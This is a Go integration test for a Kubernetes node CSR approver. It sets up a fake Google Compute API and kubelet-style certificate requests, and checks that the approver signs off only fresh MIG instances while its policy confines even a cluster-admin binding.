package k8stest

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/tools/clientcmd"
	certutil "k8s.io/client-go/util/cert"
	"k8s.io/client-go/util/keyutil"

	"github.com/nodegen/nodegen/internal/gce"
	"github.com/nodegen/nodegen/internal/k8sdecode"
	"github.com/nodegen/nodegen/internal/kubeadm"
	"github.com/nodegen/nodegen/internal/layout"
	"github.com/nodegen/nodegen/internal/model"
	"github.com/nodegen/nodegen/internal/pipeline"
	"github.com/nodegen/nodegen/internal/render"
	"github.com/nodegen/nodegen/internal/testing/scripttest"
	"github.com/nodegen/nodegen/internal/testing/testcp"
)

// kubeadmNodeGroup is kubeadm's bootstrap-token group for joining nodes,
// whose kubelet client CSRs kubeadm has auto-approved: the production-mode
// control plane has kubeadm's bindings for it (testcp.KubeadmBindings).
const kubeadmNodeGroup = testcp.KubeadmNodeBootstrapGroup

// fakeCompute serves (gceNamespace puts it at the production addresses)
// the metadata server's service-account token and the Compute API's
// instances.get, instances.getGuestAttributes, instanceTemplates.get,
// zonal instanceGroupManagers.get and
// instanceGroupManagers.listPerInstanceConfigs, in the real API's shapes:
// creationTimestamp in the API's own offset form, the id as a decimal
// string, the created-by and instance-template metadata items a MIG
// writes over its template's, the 404 error body; guest attributes as
// the REST reference (compute/docs/reference/rest/v1/instances/getGuestAttributes)
// has them, GET with variableKey "<namespace>/<key>" answering a
// GuestAttributes resource with variableKey and variableValue, 404 for a
// key the VM has not written; a MIG with its allInstancesConfig (metadata
// and labels over the template's); per-instance configs as POST with an
// empty body, items named after their instance with preservedState, in
// pages (nextPageToken, pageToken) of configPage items; a MIG's
// statefulPolicy; an instance's disks (its boot disk, named after it
// unless the test says otherwise, and a local SSD); the project's
// commonInstanceMetadata (projects.get). A VM's metadata
// is what the MIG made it from: its template's, then the all-instances
// config's, then its per-instance config's, fixed when the VM is made
// (set); a config changed or removed later changes the VM only when the
// test says so (setMetadata), as a MIG applies it only on an update.
type fakeCompute struct {
	project string
	token   string

	mu        sync.Mutex
	instances map[string]fakeInstance // by zone + "/" + name
	// configs are the per-instance configs of a MIG, by zone + "/" +
	// MIG: instance name -> preserved metadata.
	configs map[string][]fakeConfig
	// templates are the instance templates, by name; migTemplate the
	// current template of each MIG, by zone + "/" + MIG; allInstances the
	// metadata of each MIG's all-instances config.
	templates    map[string]fakeTemplate
	migTemplate  map[string]string
	allInstances map[string]map[string]string
	// stateful are the MIGs (zone + "/" + MIG) whose stateful policy
	// preserves their VMs' boot disks.
	stateful map[string]bool
	// projectMetadata is the project's commonInstanceMetadata.
	projectMetadata map[string]string
	asked           []string
	nextID          uint64
	// unreadable are the instances (zone + "/" + name) whose instances.get
	// answers 503, as the Compute API does when it cannot serve.
	unreadable map[string]bool
}

// fakeConfig is a per-instance config: Metadata nil is one that only
// names the instance, as createInstances leaves (no preservedState);
// an empty map one whose preservedState holds an empty metadata map.
type fakeConfig struct {
	Name     string
	Metadata map[string]string
}

// fakeTemplate is an instance template: its labels and metadata.
type fakeTemplate struct {
	Labels   map[string]string
	Metadata map[string]string
}

// configPage is the fake's page size of per-instance configs, small so
// that a few configs span pages (the real API's default is 500).
const configPage = 2

type fakeInstance struct {
	Status  string
	Created time.Time
	MIG     string // the MIG that created it; "" none
	// Template is the instance template it was made from ("" the MIG's
	// current one).
	Template string
	// Metadata is its metadata but the MIG's two items; set fills it in.
	Metadata map[string]string
	// ID is the instance's id: set calls give each new instance its own.
	ID uint64
	// Guest holds the guest attributes the VM wrote, by "<namespace>/<key>".
	Guest map[string]string
	// BootDisk is the name of its boot disk ("" the instance's name, as a
	// MIG makes it from a template that names no disk).
	BootDisk string
}

// newFakeCompute returns the fake with an instance template for each
// cloud group of src, its rendered kube-env and startup script in files,
// the current one of each of the group's MIGs.
func newFakeCompute(t *testing.T, src *model.Source, files layout.Files) *fakeCompute {
	f := &fakeCompute{project: src.Cluster.GCP.Project, token: "ya29.compute-" + fmt.Sprint(time.Now().UnixNano()), instances: map[string]fakeInstance{},
		configs: map[string][]fakeConfig{}, unreadable: map[string]bool{},
		templates: map[string]fakeTemplate{}, migTemplate: map[string]string{}, allInstances: map[string]map[string]string{},
		stateful: map[string]bool{}, projectMetadata: map[string]string{}}
	for _, g := range src.CloudGroups() {
		md := map[string]string{}
		for _, m := range src.InstanceTemplate(g).Properties.Metadata {
			switch {
			case !m.Rendered:
				md[m.Key] = m.Value
			case m.Key == model.MetadataKubeEnv:
				md[m.Key] = string(files[layout.KubeEnvPath(g.Name)])
			case m.Key == model.MetadataStartupScript:
				md[m.Key] = string(files[layout.StartupScriptPath(g.Name)])
			default:
				t.Fatalf("group %s: a rendered metadata item %s the fake does not know", g.Name, m.Key)
			}
			if md[m.Key] == "" {
				t.Fatalf("group %s: no rendered %s", g.Name, m.Key)
			}
		}
		// Terraform's name_prefix: the prefix and a unique suffix.
		name := src.Cluster.TemplatePrefix(g) + "20261201093000123400000001"
		f.templates[name] = fakeTemplate{Labels: gce.Labels(src.Cluster.Name, g.Name, g.Labels), Metadata: md}
		for _, z := range g.Zones {
			f.migTemplate[z+"/"+src.Cluster.MIGName(g, z)] = name
		}
	}
	return f
}

// set creates (or recreates) instance zone/name, with a new id unless i
// has one, and returns the id. An instance of a MIG is made from i's
// template, or else the MIG's current one, its metadata that template's
// with the MIG's all-instances config and its per-instance config for
// the name over it, unless i gives its metadata.
func (f *fakeCompute) set(zone, name string, i fakeInstance) uint64 {
	f.mu.Lock()
	defer f.mu.Unlock()
	if i.ID == 0 {
		f.nextID++
		i.ID = 4105349117032215000 + f.nextID
	}
	if i.MIG != "" && i.Template == "" {
		i.Template = f.migTemplate[zone+"/"+i.MIG]
	}
	if i.Metadata == nil {
		i.Metadata = maps.Clone(f.templates[i.Template].Metadata)
		if i.Metadata == nil {
			i.Metadata = map[string]string{}
		}
		maps.Copy(i.Metadata, f.allInstances[zone+"/"+i.MIG])
		for _, c := range f.configs[zone+"/"+i.MIG] {
			if c.Name == name {
				maps.Copy(i.Metadata, c.Metadata)
			}
		}
	}
	f.instances[zone+"/"+name] = i
	return i.ID
}

// setMetadata sets metadata key of instance zone/name to value ("" removes
// it), as a MIG's update applies a config, or instances.setMetadata.
func (f *fakeCompute) setMetadata(zone, name, key, value string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	i := f.instances[zone+"/"+name]
	i.Metadata = maps.Clone(i.Metadata)
	if value == "" {
		delete(i.Metadata, key)
	} else {
		i.Metadata[key] = value
	}
	f.instances[zone+"/"+name] = i
}

// setProjectMetadata sets key of the project's metadata to value (""
// sets an empty value, nil removes it).
func (f *fakeCompute) setProjectMetadata(key string, value *string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if value == nil {
		delete(f.projectMetadata, key)
		return
	}
	f.projectMetadata[key] = *value
}

// setStateful sets whether MIG zone/mig's stateful policy preserves its
// VMs' boot disks.
func (f *fakeCompute) setStateful(zone, mig string, on bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.stateful[zone+"/"+mig] = on
}

// setBootDisk makes disk the boot disk of instance zone/name, as
// instances.detachDisk and attachDisk do on a stopped VM.
func (f *fakeCompute) setBootDisk(zone, name, disk string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	i := f.instances[zone+"/"+name]
	i.BootDisk = disk
	f.instances[zone+"/"+name] = i
}

// setAllInstances sets the metadata of MIG zone/mig's all-instances config.
func (f *fakeCompute) setAllInstances(zone, mig string, metadata map[string]string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.allInstances[zone+"/"+mig] = metadata
}

// removeConfig deletes MIG zone/mig's per-instance config for name
// (deletePerInstanceConfigs), which leaves the VM as it is.
func (f *fakeCompute) removeConfig(zone, mig, name string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.configs[zone+"/"+mig] = slices.DeleteFunc(f.configs[zone+"/"+mig], func(c fakeConfig) bool { return c.Name == name })
}

// writeGuest is what the VM zone/name does through its metadata server
// (PUT instance/guest-attributes/<namespace>/<key>): only that VM writes
// its guest attributes.
func (f *fakeCompute) writeGuest(zone, name, key, value string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	i, ok := f.instances[zone+"/"+name]
	if !ok {
		panic("no instance " + zone + "/" + name)
	}
	i.Guest = maps.Clone(i.Guest)
	if i.Guest == nil {
		i.Guest = map[string]string{}
	}
	i.Guest[key] = value
	f.instances[zone+"/"+name] = i
}

// guestAttributes answers instances.getGuestAttributes of instance i.
func (f *fakeCompute) guestAttributes(w http.ResponseWriter, r *http.Request, zone, name string, i fakeInstance) {
	f.asked = append(f.asked, "guest "+zone+"/"+name)
	self := "https://www.googleapis.com/compute/v1/projects/" + f.project + "/zones/" + zone + "/instances/" + name + "/getGuestAttributes"
	key := r.URL.Query().Get("variableKey")
	v, ok := i.Guest[key]
	if key == "" || !ok {
		reply(w, http.StatusNotFound, map[string]any{"error": map[string]any{"code": 404,
			"message": "The resource 'projects/" + f.project + "/zones/" + zone + "/instances/" + name + "/guestAttributes/" + key + "' was not found",
			"errors":  []map[string]any{{"message": "The resource was not found", "domain": "global", "reason": "notFound"}}}})
		return
	}
	reply(w, http.StatusOK, map[string]any{"kind": "compute#guestAttributes", "variableKey": key, "variableValue": v, "selfLink": self + "?variableKey=" + key})
}

// remove deletes instance zone/name, as a scale-down or a MIG's
// deleteInstances does.
func (f *fakeCompute) remove(zone, name string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	delete(f.instances, zone+"/"+name)
}

// addConfig adds a per-instance config for instance name to MIG zone/mig.
func (f *fakeCompute) addConfig(zone, mig, name string, metadata map[string]string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.configs[zone+"/"+mig] = append(f.configs[zone+"/"+mig], fakeConfig{name, metadata})
}

// listConfigs answers listPerInstanceConfigs of MIG zone/mig.
func (f *fakeCompute) listConfigs(w http.ResponseWriter, r *http.Request, zone, mig string) {
	if r.Method != http.MethodPost {
		apiError(w, http.StatusNotFound, "NOT_FOUND", "no such method "+r.Method+" "+r.URL.Path)
		return
	}
	f.asked = append(f.asked, "configs "+zone+"/"+mig)
	all := f.configs[zone+"/"+mig]
	start := 0
	if p := r.URL.Query().Get("pageToken"); p != "" {
		n, err := strconv.Atoi(strings.TrimPrefix(p, "page-"))
		if err != nil || n <= 0 || n >= len(all) {
			apiError(w, http.StatusBadRequest, "INVALID_ARGUMENT", "Invalid value for field 'pageToken': '"+p+"'.")
			return
		}
		start = n
	}
	end := min(start+configPage, len(all))
	body := map[string]any{}
	var items []map[string]any
	for _, c := range all[start:end] {
		item := map[string]any{"name": c.Name, "fingerprint": "ZWFnZXI=", "status": "EFFECTIVE"}
		if c.Metadata != nil {
			item["preservedState"] = map[string]any{"metadata": c.Metadata}
		}
		items = append(items, item)
	}
	if len(items) > 0 {
		body["items"] = items
	}
	if end < len(all) {
		body["nextPageToken"] = "page-" + strconv.Itoa(end)
	}
	reply(w, http.StatusOK, body)
}

func (f *fakeCompute) serve(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if r.URL.Path == "/computeMetadata/v1/instance/service-accounts/default/token" {
		if r.Header.Get("Metadata-Flavor") != "Google" {
			http.Error(w, "missing Metadata-Flavor: Google", http.StatusForbidden)
			return
		}
		reply(w, http.StatusOK, map[string]any{"access_token": f.token, "expires_in": 3599, "token_type": "Bearer"})
		return
	}
	if r.Header.Get("Authorization") != "Bearer "+f.token {
		apiError(w, http.StatusUnauthorized, "UNAUTHENTICATED", "Request had invalid authentication credentials.")
		return
	}
	prefix := "/compute/v1/projects/" + f.project + "/zones/"
	rest, ok := strings.CutPrefix(r.URL.Path, prefix)
	if zone, mig, isMIG := strings.Cut(rest, "/instanceGroupManagers/"); ok && isMIG {
		if mig, isList := strings.CutSuffix(mig, "/listPerInstanceConfigs"); isList && !strings.Contains(mig, "/") {
			f.listConfigs(w, r, zone, mig)
			return
		}
		if tmpl, found := f.migTemplate[zone+"/"+mig]; found && r.Method == http.MethodGet {
			f.asked = append(f.asked, "mig "+zone+"/"+mig)
			igm := map[string]any{"kind": "compute#instanceGroupManager", "name": mig, "baseInstanceName": strings.TrimSuffix(mig, "-"+zone),
				"instanceTemplate":   "https://www.googleapis.com/compute/v1/projects/" + f.project + "/global/instanceTemplates/" + tmpl,
				"allInstancesConfig": map[string]any{"properties": map[string]any{"labels": map[string]string{"team": "ml"}}}}
			if md := f.allInstances[zone+"/"+mig]; len(md) > 0 {
				igm["allInstancesConfig"] = map[string]any{"properties": map[string]any{"metadata": md, "labels": map[string]string{"team": "ml"}}}
			}
			if f.stateful[zone+"/"+mig] {
				igm["statefulPolicy"] = map[string]any{"preservedState": map[string]any{"disks": map[string]any{"persistent-disk-0": map[string]string{"autoDelete": "NEVER"}}}}
			} else {
				// A policy that preserves nothing.
				igm["statefulPolicy"] = map[string]any{"preservedState": map[string]any{"disks": map[string]any{}}}
			}
			reply(w, http.StatusOK, igm)
			return
		}
	}
	if r.URL.Path == "/compute/v1/projects/"+f.project && r.Method == http.MethodGet {
		f.asked = append(f.asked, "project")
		reply(w, http.StatusOK, map[string]any{"kind": "compute#project", "id": "7421839302718211234", "name": f.project,
			"commonInstanceMetadata": map[string]any{"kind": "compute#metadata", "fingerprint": "cHJvamVjdA==", "items": metadataItems(f.projectMetadata)},
			"quotas":                 []map[string]any{{"metric": "CPUS_ALL_REGIONS", "limit": 64, "usage": 8}},
			"defaultServiceAccount":  projectNumber + "-compute@developer.gserviceaccount.com", "xpnProjectStatus": "UNSPECIFIED_XPN_PROJECT_STATUS"})
		return
	}
	if name, isTemplate := strings.CutPrefix(r.URL.Path, "/compute/v1/projects/"+f.project+"/global/instanceTemplates/"); isTemplate && r.Method == http.MethodGet {
		f.asked = append(f.asked, "template "+name)
		tmpl, found := f.templates[name]
		if !found {
			reply(w, http.StatusNotFound, map[string]any{"error": map[string]any{"code": 404,
				"message": "The resource 'projects/" + f.project + "/global/instanceTemplates/" + name + "' was not found"}})
			return
		}
		reply(w, http.StatusOK, map[string]any{"kind": "compute#instanceTemplate", "name": name,
			"properties": map[string]any{"machineType": "n2-standard-8", "labels": tmpl.Labels,
				"disks":    []any{map[string]any{"boot": true, "initializeParams": map[string]any{"labels": map[string]string{"disk": "boot"}}}},
				"metadata": map[string]any{"kind": "compute#metadata", "items": metadataItems(tmpl.Metadata)}}})
		return
	}
	zone, name, ok2 := strings.Cut(rest, "/instances/")
	name, guest := strings.CutSuffix(name, "/getGuestAttributes")
	if !ok || !ok2 || r.Method != http.MethodGet || strings.Contains(name, "/") {
		apiError(w, http.StatusNotFound, "NOT_FOUND", "no such method "+r.Method+" "+r.URL.Path)
		return
	}
	if f.unreadable[zone+"/"+name] && !guest {
		f.asked = append(f.asked, zone+"/"+name)
		apiError(w, http.StatusServiceUnavailable, "UNAVAILABLE", "The service is currently unavailable.")
		return
	}
	i, found := f.instances[zone+"/"+name]
	if found && guest {
		f.guestAttributes(w, r, zone, name, i)
		return
	}
	f.asked = append(f.asked, zone+"/"+name)
	if !found {
		reply(w, http.StatusNotFound, map[string]any{"error": map[string]any{"code": 404,
			"message": "The resource 'projects/" + f.project + "/zones/" + zone + "/instances/" + name + "' was not found",
			"errors":  []map[string]any{{"message": "The resource was not found", "domain": "global", "reason": "notFound"}}}})
		return
	}
	body := map[string]any{
		"kind":              "compute#instance",
		"id":                strconv.FormatUint(i.ID, 10),
		"creationTimestamp": i.Created.In(time.FixedZone("PST", -8*3600)).Format("2006-01-02T15:04:05.000-07:00"),
		"name":              name,
		"zone":              "https://www.googleapis.com/compute/v1/projects/" + f.project + "/zones/" + zone,
		"status":            i.Status,
		"machineType":       "https://www.googleapis.com/compute/v1/projects/" + f.project + "/zones/" + zone + "/machineTypes/n2-standard-8",
	}
	boot := i.BootDisk
	if boot == "" {
		boot = name
	}
	body["disks"] = []map[string]any{
		{"kind": "compute#attachedDisk", "type": "PERSISTENT", "mode": "READ_WRITE", "deviceName": "persistent-disk-0", "index": 0, "boot": true, "autoDelete": true,
			"source":   "https://www.googleapis.com/compute/v1/projects/" + f.project + "/zones/" + zone + "/disks/" + boot,
			"licenses": []string{"https://www.googleapis.com/compute/v1/projects/debian-cloud/global/licenses/debian-12-bookworm"}, "interface": "SCSI",
			"guestOsFeatures":              []map[string]string{{"type": "UEFI_COMPATIBLE"}, {"type": "GVNIC"}},
			"shieldedInstanceInitialState": map[string]any{"dbxs": []map[string]string{{"content": "2gcDBhMRFQAAAAAAAAAAAA==", "fileType": "BIN"}}},
			"diskSizeGb":                   "100", "architecture": "X86_64"},
		{"kind": "compute#attachedDisk", "type": "SCRATCH", "mode": "READ_WRITE", "deviceName": "local-ssd-0", "index": 1, "boot": false, "autoDelete": true,
			"interface": "NVME", "diskSizeGb": "375"},
	}
	md := maps.Clone(i.Metadata)
	if md == nil {
		md = map[string]string{}
	}
	if i.MIG != "" {
		md["created-by"] = "projects/" + projectNumber + "/zones/" + zone + "/instanceGroupManagers/" + i.MIG
		md["instance-template"] = "projects/" + projectNumber + "/global/instanceTemplates/" + i.Template
	}
	body["metadata"] = map[string]any{"kind": "compute#metadata", "fingerprint": "bGFiZWxz", "items": metadataItems(md)}
	reply(w, http.StatusOK, body)
}

// metadataItems is metadata as the Compute API lists it: items of key and
// value, by key.
func metadataItems(md map[string]string) []map[string]string {
	var items []map[string]string
	for _, k := range slices.Sorted(maps.Keys(md)) {
		items = append(items, map[string]string{"key": k, "value": md[k]})
	}
	return items
}

// approverEnv is the state of the approver test.
type approverEnv struct {
	cp      *testcp.ControlPlane
	src     *model.Source
	renewer *renewerEnv
	script  string   // the approver's script, in a file
	env     []string // its container's environment
	sa      *testcp.User
	files   layout.Files // the source rendered
}

// csrRequest returns the PEM of a kubelet client CSR for system:node:name
// (ECDSA P-256, organization system:nodes, as the kubelet makes it), with
// extra subject attributes appended after the common name.
func csrRequest(t *testing.T, name string, extra ...pkix.AttributeTypeAndValue) []byte {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	subject := pkix.Name{Organization: []string{"system:nodes"}, CommonName: "system:node:" + name, ExtraNames: extra}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: subject}, key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
}

// joiningVM is a cloud VM as it joins: the key its kubelet's TLS bootstrap
// signs its CSR with, and the hash of its SubjectPublicKeyInfo that its
// join script publishes as a guest attribute.
type joiningVM struct {
	key  *ecdsa.PrivateKey
	hash string
}

// newVM makes the key as the kubelet does (client-go's
// keyutil.MakeEllipticPrivateKeyPEM, what LoadOrGenerateKeyFile writes).
func newVM(t *testing.T) *joiningVM {
	t.Helper()
	pemKey, err := keyutil.MakeEllipticPrivateKeyPEM()
	if err != nil {
		t.Fatal(err)
	}
	k, err := keyutil.ParsePrivateKeyPEM(pemKey)
	if err != nil {
		t.Fatal(err)
	}
	key := k.(*ecdsa.PrivateKey)
	spki, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(spki)
	return &joiningVM{key: key, hash: hex.EncodeToString(sum[:])}
}

// published is the guest attribute value the join script writes on
// instance id.
func (v *joiningVM) published(id uint64) string {
	return strconv.FormatUint(id, 10) + " sha256:" + v.hash
}

// csr is the kubelet's bootstrap CSR for name, made as the kubelet makes
// it (kubernetes v1.37.2 pkg/kubelet/certificate/bootstrap/bootstrap.go
// requestNodeCertificate: client-go's cert.MakeCSR with organization
// system:nodes and common name system:node:<name>, no SANs).
func (v *joiningVM) csr(t *testing.T, name string) []byte {
	t.Helper()
	b, err := certutil.MakeCSR(v.key, &pkix.Name{Organization: []string{"system:nodes"}, CommonName: "system:node:" + name}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// csrWith is a CSR of key with subject and DNS SANs.
func csrWith(t *testing.T, key *ecdsa.PrivateKey, subject pkix.Name, dns []string) []byte {
	t.Helper()
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: subject, DNSNames: dns}, key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
}

// createCSR creates a CSR for signer with request as u and returns its name.
func createCSR(t *testing.T, u *testcp.User, request []byte, signer string) string {
	t.Helper()
	return createCSRWith(t, u, request, signer, []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth})
}

// createCSRWith is createCSR with the usages given. It files the CSR with
// client-go, as the kubelet's TLS bootstrap does.
func createCSRWith(t *testing.T, u *testcp.User, request []byte, signer string, usages []certificatesv1.KeyUsage) string {
	t.Helper()
	c, err := clientOf(t, u).CertificatesV1().CertificateSigningRequests().Create(t.Context(), &certificatesv1.CertificateSigningRequest{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "node-csr-"},
		Spec:       certificatesv1.CertificateSigningRequestSpec{Request: request, SignerName: signer, Usages: usages},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("creating a CSR as %s: %v", u.Name, err)
	}
	return c.Name
}

// csr reads a CSR as the admin.
func (e *approverEnv) csr(t *testing.T, name string) *certificatesv1.CertificateSigningRequest {
	t.Helper()
	c, err := clientOf(t, e.cp.Admin()).CertificatesV1().CertificateSigningRequests().Get(t.Context(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// decision returns the CSR's Approved or Denied condition, if any.
func decision(c *certificatesv1.CertificateSigningRequest) *certificatesv1.CertificateSigningRequestCondition {
	for i, cond := range c.Status.Conditions {
		if cond.Type == certificatesv1.CertificateApproved || cond.Type == certificatesv1.CertificateDenied {
			return &c.Status.Conditions[i]
		}
	}
	return nil
}

// decide writes one condition through the approval subresource as u.
func decide(t *testing.T, u *testcp.User, csr, typ, reason, message string) (string, error) {
	t.Helper()
	b, _ := json.Marshal(map[string]any{"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
		"metadata": map[string]any{"name": csr},
		"status":   map[string]any{"conditions": []map[string]string{{"type": typ, "status": "True", "reason": reason, "message": message}}}})
	_, stderr, err := kubectl(t, u, string(b), "replace", "--raw", "/apis/certificates.k8s.io/v1/certificatesigningrequests/"+csr+"/approval", "-f", "-")
	return stderr, err
}

// bootstrapToken creates, as the admin, a bootstrap token in group and
// returns it: how an admin makes an on-prem join token (kubeadm token
// create).
func (e *approverEnv) bootstrapToken(t *testing.T, id, group string) string {
	t.Helper()
	secret := "0123456789abcdef"
	s := corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "bootstrap-token-" + id, Namespace: "kube-system"},
		Type:       model.BootstrapTokenType,
		StringData: map[string]string{"token-id": id, "token-secret": secret, "usage-bootstrap-authentication": "true",
			"usage-bootstrap-signing": "true", "auth-extra-groups": group,
			"expiration": time.Now().Add(time.Hour).UTC().Format(time.RFC3339)},
	}
	s.APIVersion, s.Kind = "v1", "Secret"
	b, _ := json.Marshal(s)
	e.renewer.adminCreate(t, string(b))
	return id + "." + secret
}

// TestNodeCSRApprover proves the cloud join path against a real
// kube-apiserver and kube-controller-manager (CSR signing and kubeadm's
// auto-approval): a bootstrap token from the join-token renewer is in a
// group whose CSRs nobody but the approver decides; the approver, run
// under bash against a fake Compute API, approves a fresh MIG instance's
// own name within the join's deadline and denies on-prem and
// control-plane names, names without an instance, names of Ready Nodes,
// stale, stopped and foreign VMs and duplicate requests, each with its
// reason; on-prem joins with kubeadm's own tokens are still auto-approved
// and left alone; and its ServiceAccount, even bound to cluster-admin,
// can approve nothing else and write nothing else.
func TestNodeCSRApprover(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "nodegroups")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, content := range renewerSource {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	l, err := pipeline.Load(dir)
	if err != nil {
		t.Fatalf("the test source: %v", err)
	}
	files, err := render.All(l.Fleet.Clusters[0])
	if err != nil {
		t.Fatal(err)
	}
	e := &approverEnv{src: l.Fleet.Clusters[0], renewer: &renewerEnv{src: l.Fleet.Clusters[0]}, files: files}
	e.renewer.renewal = l.Fleet.Clusters[0].Renewal()
	for _, o := range mustDecode(t, files[layout.JoinTokenRenewerPath]) {
		switch o := o.(type) {
		case *corev1.ConfigMap:
			e.renewer.script = writeScript(t, o.Data["join-token-renewer.sh"])
		case *batchv1.CronJob:
			e.renewer.env = envOf(o.Spec.JobTemplate.Spec.Template.Spec.Containers[0].Env)
		}
	}
	for _, o := range mustDecode(t, files[layout.NodeCSRApproverPath]) {
		switch o := o.(type) {
		case *corev1.ConfigMap:
			e.script = writeScript(t, o.Data["node-csr-approver.sh"])
		case *appsv1.Deployment:
			e.env = envOf(o.Spec.Template.Spec.Containers[0].Env)
		}
	}
	if e.script == "" || e.env == nil || e.renewer.script == "" || e.renewer.env == nil {
		t.Fatal("the manifests lack a script or an environment")
	}

	e.cp = testcp.StartWith(t, testcp.Options{Production: true})
	e.renewer.cp = e.cp
	for _, p := range []string{layout.JoinTokenRenewerPath, layout.NodeCSRApproverPath} {
		if _, _, err := kubectl(t, e.cp.Admin(), string(files[p]), "create", "--validate=strict", "-f", "-"); err != nil {
			t.Fatal(err)
		}
	}
	e.renewer.sa = e.cp.ServiceAccount(t, model.WorkloadNamespace, model.JoinTokenRenewer.Name())
	e.sa = e.cp.ServiceAccount(t, model.WorkloadNamespace, model.NodeCSRApprover.Name())

	// A join token, as the renewer makes and publishes it.
	gcp := newFakeGCP(t, e.src.Cluster.GCP.Project, e.src.Cluster.JoinToken.SecretManager.Secret)
	if code, _ := e.renewer.run(t, gcp); code != 0 {
		t.Fatalf("the renewer exited %d", code)
	}
	versions := gcp.snapshot()
	token := string(versions[len(versions)-1].Payload)
	u, _ := e.renewer.whoami(t, token)
	if u == nil || !slices.Contains(u.Groups, model.CloudBootstrapGroup) || slices.Contains(u.Groups, kubeadmNodeGroup) {
		t.Fatalf("the renewer's token authenticates as %+v; want the group %s and not %s", u, model.CloudBootstrapGroup, kubeadmNodeGroup)
	}
	joiner := e.cp.TokenUser(t, "the renewer's join token", token)

	t.Run("Policy", func(t *testing.T) { e.testPolicy(t, joiner) })
	t.Run("Script", func(t *testing.T) { e.testScript(t, joiner) })
	t.Run("Smuggling", func(t *testing.T) { e.testSmuggling(t, joiner) })
}

func mustDecode(t *testing.T, manifest []byte) []runtime.Object {
	t.Helper()
	objs, err := k8sdecode.Objects(manifest)
	if err != nil {
		t.Fatal(err)
	}
	return objs
}

func writeScript(t *testing.T, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "script.sh")
	if err := os.WriteFile(p, []byte(content), 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

func envOf(vars []corev1.EnvVar) []string {
	out := []string{}
	for _, v := range vars {
		if v.Name != "HOME" {
			out = append(out, v.Name+"="+v.Value)
		}
	}
	return out
}

// testPolicy: bound to cluster-admin, the approver's ServiceAccount may
// decide only kubelet client CSRs of the cloud join group, and approve
// only system:node:<an instance name of the source's MIGs> with its
// reason and the instance named; everything else it tries is denied by
// the policy. Nothing signs or auto-approves here yet.
func (e *approverEnv) testPolicy(t *testing.T, joiner *testcp.User) {
	e.renewer.adminCreate(t, `{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"approver-by-mistake"},
 "roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},
 "subjects":[{"kind":"ServiceAccount","name":"`+model.NodeCSRApprover.Name()+`","namespace":"`+model.WorkloadNamespace+`"}]}`)
	defer e.renewer.admin(t, "delete", "clusterrolebinding", "approver-by-mistake")
	policy := fmt.Sprintf("ValidatingAdmissionPolicy '%s' with binding '%s' denied request: ", model.NodeCSRApprover.Name(), model.NodeCSRApprover.Name())
	eventually(t, 30*time.Second, "the approver's policy enforced", func() string {
		_, stderr, err := kubectl(t, e.sa, "", "create", "configmap", "probe", "-n", "default", "--dry-run=server")
		if err == nil || !strings.Contains(stderr, policy) {
			return fmt.Sprintf("dry run of a ConfigMap: err %v, %s", err, stderr)
		}
		return ""
	})
	kubeadmJoiner := e.cp.TokenUser(t, "a kubeadm join token", e.bootstrapToken(t, "kadm01", kubeadmNodeGroup))
	msg := func(name string) string {
		return "instance projects/" + e.src.Cluster.GCP.Project + "/zones/us-central1-a/instances/" + name + " is RUNNING, created 5s ago by MIG renew-work-us-central1-a"
	}
	approve := func(csr, name string) (string, error) {
		return decide(t, e.sa, csr, "Approved", model.CSRReasonApproved, msg(name))
	}
	cn := asn1.ObjectIdentifier{2, 5, 4, 3}
	ou := asn1.ObjectIdentifier{2, 5, 4, 11}
	cases := []struct {
		name string
		try  func() (string, error)
		want string // "" allowed; else a substring of the denial
	}{
